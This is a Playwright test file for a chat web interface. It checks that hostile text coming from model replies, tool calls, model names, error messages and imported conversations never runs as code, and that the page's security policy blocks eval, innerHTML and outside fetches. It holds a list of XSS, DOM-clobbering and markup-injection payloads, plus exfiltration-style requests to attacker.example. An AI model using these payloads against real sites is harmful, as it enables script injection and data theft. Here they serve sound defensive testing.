"""Texts that would run code in the page if it treated them as more than texts."""

import json
import re
from pathlib import Path
from typing import TYPE_CHECKING, Any

import pytest

from contract_tests.kit.server import OwnServer
from contract_tests.own.page.visits import Visit, expect

if TYPE_CHECKING:
    from playwright.sync_api import Route

ATTACKS = (
    "<script>window.hit = 1</script>",
    "<img src=x onerror='window.hit = 1'>",
    "<svg onload='window.hit = 1'><a href='javascript:window.hit=1'>x</a></svg>",
    "<iframe srcdoc='<script>parent.hit = 1</script>'></iframe>",
    "<style>* { display: none }</style><form action='/models/unload'><input name=a></form>",
    "[link](javascript:window.hit=1) [other](data:text/html,<script>top.hit=1</script>)",
    "![image](https://attacker.example/pixel.png?secret) ![a](x' onerror='window.hit=1)",
    "```html\n<script>window.hit = 1</script>\n```",
    '```"><img src=x onerror=window.hit=1>\ncode\n```',
    "$\\href{javascript:window.hit=1}{x}$ $\\htmlStyle{display:none}{x}$ $$\\def\\a{\\a\\a}\\a$$",
    "$<img src=x onerror=window.hit=1>$",
    "<math><mtext><table><mglyph><style><!--</style>"
    "<img title='--&gt;&lt;img src=1 onerror=hit=1&gt;'>",
    "<a href='&#106;avascript:window.hit=1' onclick='window.hit=1' style='position:fixed'>x</a>",
    "<b id=chat name=models>clobbered</b><form id=app><input name=attributes></form>",
)  # fmt: skip
HOSTILE = "\n\n".join(ATTACKS)

_FOREIGN = """() => {
  const wrong = [];
  for (const each of document.querySelectorAll("body *")) {
    if (["IFRAME", "OBJECT", "EMBED", "STYLE", "BASE", "META", "LINK"].includes(each.tagName))
      wrong.push(each.outerHTML);
    if (each.tagName === "SCRIPT") wrong.push(each.outerHTML);
    for (const { name, value } of each.attributes) {
      if (name.startsWith("on") || /^\\s*(javascript|data:text)/i.test(value))
        wrong.push(each.outerHTML);
      if (name === "src" && !value.startsWith("data:image/")) wrong.push(each.outerHTML);
    }
  }
  if (window.hit) wrong.push("a script ran");
  if (document.querySelectorAll("#chat").length !== 1) wrong.push("an id occurs twice");
  return wrong;
}"""


def check(visit: Visit) -> None:
    """Checks that nothing foreign is in the page, after all pending work."""
    visit.drawn()
    visit.page.evaluate("new Promise((done) => requestAnimationFrame(() => setTimeout(done)))")
    assert visit.page.evaluate(_FOREIGN) == []


def test_texts_of_a_model(visit: Visit, plain: OwnServer) -> None:
    visit.open(plain.url)
    parts = [{"content": HOSTILE[at : at + 40]} for at in range(0, len(HOSTILE), 40)]
    visit.script([{"reasoning_content": HOSTILE}, *parts])
    visit.say(HOSTILE)
    answer = visit.answered()
    answer.locator(".hljs-tag").first.wait_for()
    answer.locator(".katex").first.wait_for()
    check(visit)
    # The text itself is readable.
    expect(answer).to_contain_text("window.hit = 1")
    image = "[href='https://attacker.example/pixel.png?secret']"
    expect(answer.locator(f"a{image}")).to_have_count(1)
    expect(answer.locator(f"a[href]:not({image})")).to_have_count(0)
    expect(answer.locator("a:not([rel='noopener noreferrer nofollow'])")).to_have_count(0)


@pytest.mark.parametrize("attack", ATTACKS)
def test_each_alone(attack: str, visit: Visit, plain: OwnServer) -> None:
    visit.open(plain.url)
    visit.script([{"content": attack}])
    visit.ask("Now")
    check(visit)


def test_tools(visit: Visit, plain: OwnServer) -> None:
    visit.open(plain.url)
    function = {"name": HOSTILE, "arguments": json.dumps({"a": HOSTILE})}
    visit.script([{"tool_calls": [{"index": 0, "id": HOSTILE, "function": function}]}])
    visit.say("Now")
    answer = visit.answered()
    expect(answer.locator(".call summary code")).to_have_text(re.compile("^<script>"))
    check(visit)


def test_names_of_models(visit: Visit, plain: OwnServer) -> None:
    def named(route: "Route") -> None:
        document: Any = route.fetch().json()
        [model] = document["data"]
        models = [model | {"id": HOSTILE}, model | {"id": "__proto__"}]
        route.fulfill(json={"data": models})

    visit.page.route("**/v1/models", named)
    visit.open(plain.url)
    visit.script([{"content": "ok"}])
    visit.find(".picker").click()
    expect(visit.find(".model-row:visible")).to_have_count(2)
    check(visit)
    visit.page.keyboard.press("Escape")
    expect(visit.find(".model-row:visible")).to_have_count(0)
    visit.ask("Now")
    visit.page.goto(f"{plain.url}/#server")
    visit.find(".card th", has_text="window.hit").first.wait_for()
    check(visit)


def test_messages_of_errors(visit: Visit, plain: OwnServer) -> None:
    visit.open(plain.url)
    visit.expected.append("status of 400")
    visit.page.route(
        "**/v1/chat/completions",
        lambda route: route.fulfill(status=400, json={"error": {"message": HOSTILE}}),
    )
    visit.say("Now")
    expect(visit.answered().locator(".error")).to_contain_text("<script>")
    check(visit)


def test_imported_conversations(visit: Visit, plain: OwnServer, tmp_path: Path) -> None:
    """Only messages of the right form are imported."""
    messages = [
        {"id": "__proto__", "parent": None, "role": "user", "content": HOSTILE,
         "files": [{"kind": "image", "name": HOSTILE, "data": "javascript:window.hit=1"},
                   {"kind": "image", "name": "b", "data": "https://attacker.example/a.png"},
                   {"kind": "text", "name": HOSTILE, "data": HOSTILE}, 5, None]},
        {"id": "b", "parent": "__proto__", "role": "assistant", "content": HOSTILE,
         "model": HOSTILE, "reasoning": HOSTILE, "error": HOSTILE, "finish": HOSTILE,
         "timings": {"predicted_n": HOSTILE},
         "calls": [{"id": 5, "name": HOSTILE, "arguments": {"a": 1}}]},
        {"id": "c", "parent": "c", "role": "user", "content": "my own parent"},
        {"id": "d", "parent": "b", "role": "system", "content": "another role"},
        {"id": "e", "parent": "b", "role": "user", "content": ["no text"]},
        None, 5, "text",
    ]  # fmt: skip
    conversation = {
        "id": HOSTILE,
        "title": HOSTILE,
        "messages": messages,
        "leaf": "e",
        "updated": 1e400,
    }
    document = {"kind": "specllama-conversations", "conversations": [conversation, None, 5, {}]}
    visit.open(plain.url)
    file = tmp_path / "a.json"
    file.write_text(json.dumps(document).replace("Infinity", "1e400"))
    visit.import_from(file)
    expect(visit.find(".notice")).to_have_text(["2 conversations imported"])
    visit.find(".conversation", has_text="script").click()
    expect(visit.find(".message")).to_have_count(3)
    expect(visit.find(".message .file")).to_have_count(1)
    check(visit)
    visit.reload()
    expect(visit.find(".message")).to_have_count(3)
    check(visit)
    assert visit.page.evaluate("({}).role ?? null") is None


@pytest.mark.parametrize(
    "content", ["", "{", "[]", "null", '{"kind": "x"}', '{"conversations": 5}']
)
def test_other_files_are_refused(
    content: str, visit: Visit, plain: OwnServer, tmp_path: Path
) -> None:
    visit.open(plain.url)
    file = tmp_path / "a.json"
    file.write_text(content)
    visit.import_from(file)
    expect(visit.find(".notice")).to_have_text([re.compile("^Import failed: the file")])


_ATTEMPTS = """() => new Promise((resolve) => setTimeout(async () => {
  const refused = [];
  const attempt = async (name, act) => { try { await act(); } catch { refused.push(name); } };
  const html = "<img src=x onerror='hit = 1'>";
  await attempt("innerHTML", () => { document.body.innerHTML += html; });
  await attempt("a script's text", () => {
    const script = document.createElement("script");
    script.textContent = "window.hit = 1";
    document.body.append(script);
  });
  await attempt("another policy", () => trustedTypes.createPolicy("mine", {}));
  await attempt("eval", () => window["ev" + "al"]("window.hit = 1"));
  await attempt("fetch", () => fetch("https://attacker.example/"));
  resolve({ refused, hit: window.hit ?? null });
}))"""


def test_the_policy_holds(visit: Visit, plain: OwnServer) -> None:
    """Runs code as if it had got into the page in spite of all other protection: the page's policy
    makes each attempt fail."""
    visit.open(plain.url)
    # Run later, because the browser's debugger may do more than a page.
    done = visit.page.evaluate(_ATTEMPTS)
    assert done["hit"] is None
    assert set(done["refused"]) >= {"innerHTML", "another policy", "eval", "fetch"}
    # That of the fetch is the last one. Browsers report the others differently.
    visit.page.wait_for_function(
        """() => window.violations.length >= 3
             && window.violations.some((each) => each.startsWith("connect-src"))"""
    )
    visit.page.evaluate("window.violations.splice(0)")
    visit.expected.append("")
